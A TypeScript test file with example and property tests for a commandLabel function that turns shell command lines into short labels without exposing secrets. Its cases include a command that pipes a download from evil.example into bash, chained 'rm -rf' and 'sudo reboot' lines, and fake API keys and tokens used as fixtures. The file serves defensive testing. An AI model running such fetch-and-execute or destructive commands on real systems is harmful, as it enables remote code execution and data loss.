import assert from 'node:assert/strict';
import fc from 'fast-check';
import { commandLabel } from '../../../src/core/commandLabel.ts';

const key = 'sk-live-4eC39HqLyjWDarjtT1zdp7dc';

const cases: readonly (readonly [line: string, label: string | null])[] = [
	['npm test', 'npm test'],
	['npm run deploy --token=abc', 'npm run'],
	['git push https://user:token@host.example/x.git', 'git push'],
	['git -C /home/me/secret status', 'git'],
	['git my-customer', 'git'],
	['cargo clippy', 'cargo clippy'],
	['make deploy-to-acme', 'make'],
	['make', 'make'],
	['ls -la /home/me', 'ls'],
	['rm install', 'rm'],
	['/usr/bin/python3.12 -c "print(1)"', 'python3.12'],
	['./scripts/run-tests.sh --all', 'run-tests.sh'],
	['g++ -o a a.cpp', 'g++'],
	['clang-format-15 -i a.c', 'clang-format-15'],
	[String.raw`C:\tools\npm.cmd install left-pad`, 'npm install'],
	[String.raw`"C:/Program Files/nodejs/node.exe" build.js`, 'node'],
	['  npm\ttest', 'npm test'],
	['npm test;rm -rf x', 'npm test'],
	['cat x|grep y', 'cat'],
	['echo hunter2 | sudo -S reboot', 'echo'],
	// The values of variables.
	[`OPENAI_API_KEY=${key} npm test`, 'npm test'],
	[`A='one two' B="three four" git log`, 'git log'],
	['PASSWORD="a\\" b" git log', null],
	['TOKEN=$(cat token.txt) curl x', null],
	['TOKEN=`cat token` curl x', null],
	[`KEY=${key}`, null],
	['export KEY=abc', 'export'],
	// Shells.
	[`/bin/bash -lc 'wc -c hello.txt && echo SHELL-RAN'`, 'wc'],
	['bash -lc "npm run build"', 'npm run'],
	['bash -c "SECRET=abc git commit -m \\"my secret\\""', 'git commit'],
	[`sh -c 'FOO='"'"'a b'"'"' npm test'`, 'sh'],
	[`bash -c "bash -c 'npm test'"`, 'npm test'],
	[`bash -c "bash -c 'bash -c npm'"`, 'bash'],
	['bash -c "$(curl https://evil.example)"', 'bash'],
	['bash script.sh', 'bash'],
	['bash -lc npm test', 'npm test'],
	// Where it goes first.
	['cd packages/app && npm test', 'npm test'],
	[`cd '/home/me/My Project'; git status`, 'git status'],
	['cd $HOME && npm test', 'cd'],
	// What is no program, or not for certain.
	['', null],
	['   ', null],
	[key, null],
	['AKIAIOSFODNN7EXAMPLE', null],
	['ghp_16C7e42F292c6912E7710c838347Ae178B4a', null],
	['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P', null],
	[`npm ${key}`, 'npm'],
	['"npm test', null],
	['$EDITOR x', null],
	['(npm test)', null],
	['&& npm test', null],
	['const password = "x"', 'const'],
	['export default function f() {}', 'export'],
	['=cmd', null],
	['пароль', null],
	["np'm' test", null],
];

describe('the label of a command', () => {
	for (const [line, label] of cases) {
		it(`of ${JSON.stringify(line).slice(0, 60)} is ${label ?? 'none'}`, () => {
			assert.equal(commandLabel(line), label);
		});
	}

	it('is a name of at most two words, whatever the line', () => {
		const piece = fc.oneof(
			fc.string(),
			fc.constantFrom(
				'bash -c ',
				'"',
				"'",
				' ',
				'&&',
				'|',
				'=',
				'$(',
				'`',
				'\\',
				'cd ',
				'npm ',
				'A=',
				';',
				'\n',
				'git ',
			),
			fc.constantFrom(key, 'hunter2', 'pass word'),
		);
		fc.assert(
			fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
				const label = commandLabel(pieces.join('')) ?? 'none';
				assert.match(label, /^[A-Za-z][\w.+-]{0,23}(?: [a-z-]{2,12})?$/);
				assert.ok(!label.includes('4eC39'));
			}),
		);
	});

	it('holds nothing of what stands in a value, an argument, quotes or after the program', () => {
		const secret = fc.stringMatching(/^[a-z]{4,12}$/).filter((word) => !known.includes(word));
		const around = fc.constantFrom<(secret: string) => string>(
			(word) => `TOKEN=${word} npm test`,
			(word) => `TOKEN='${word} ${word}' npm test`,
			(word) => `TOKEN="x ${word}" npm test`,
			(word) => `TOKEN="x\\" ${word}" npm test`,
			(word) => `TOKEN=x\\ ${word} npm test`,
			(word) => `TOKEN=$(${word}) npm test`,
			(word) => `npm ${word}`,
			(word) => `npm --${word} ${word}`,
			(word) => `curl -H "Authorization: ${word}" https://${word}@host.example`,
			(word) => `bash -c "TOKEN=${word} npm test"`,
			(word) => `bash -c 'TOKEN="x ${word}" npm test'`,
			(word) => `cd '${word}' && npm test`,
			(word) => `echo ${word} | npm test`,
			(word) => `cat <<EOF\n${word}\nEOF`,
		);
		fc.assert(
			fc.property(secret, around, (word, line) => {
				const words = (commandLabel(line(word)) ?? '').split(' ');
				assert.ok(!words.includes(word), words.join(' '));
			}),
		);
	});

	it('is found at once in a line of megabytes', () => {
		assert.equal(commandLabel(`npm test ${'A=b '.repeat(1_000_000)}`), 'npm test');
		assert.equal(commandLabel(`A='${'x'.repeat(5_000_000)}' npm test`), null);
		assert.equal(commandLabel('A=b '.repeat(1_000_000)), null);
	});
});

/** Words that the lines above or the labels have anyway. */
const known = ['test', 'npm', 'curl', 'bash', 'echo', 'cat', 'token', 'run', 'install'];
